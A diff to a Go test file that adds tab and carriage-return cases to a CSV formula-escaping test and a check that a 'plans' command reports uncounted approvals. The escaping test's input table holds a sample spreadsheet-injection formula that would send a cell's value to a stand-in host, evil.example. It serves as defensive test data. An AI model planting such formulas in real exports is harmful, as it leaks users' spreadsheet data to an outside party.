@@ -657,7 +657,7 @@ func TestExportVerdictFilter(t *testing.T) {
 func TestExportCSVCellsAreNeverFormulas(t *testing.T) {
 	for in, want := range map[string]string{
 		`=HYPERLINK("http://evil.example/?"&B2,"open")`: `'=HYPERLINK("http://evil.example/?"&B2,"open")`,
-		"+1": "'+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "	x": "'	x", "x": "'x",
+		"+1": "'+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
 		"seo-agent": "seo-agent", "": "", "a=b": "a=b", "'quoted": "'quoted",
 	} {
 		if got := spreadsheetSafe([]string{in})[0]; got != want {
@@ -752,6 +752,9 @@ func TestAnApprovalCountsOnlyIfItCheckedThePlansInputs(t *testing.T) {
 	show := runAt(t, nil, "show", "plan.json")
 	if strings.Count(show.stdout, "apply does not count it") != 3 || !strings.Contains(show.stdout, "NOT APPROVED in ./evidence.db: no approval apply counts") {
 		t.Fatalf("show with approvals that do not count:\n%s%s", show.stdout, show.stderr)
+	}
+	if plans := runAt(t, nil, "plans"); !strings.Contains(plans.stdout, "not counted: bob,bob,bob") {
+		t.Fatalf("plans with approvals that do not count:\n%s%s", plans.stdout, plans.stderr)
 	}
 	if res := runAt(t, nil, "approve", "plan.json", "--cp", "cp.csv", "--catalog", "catalog", "--by", "bob"); res.code != 0 {
 		t.Fatalf("approve: %s", res.stderr)
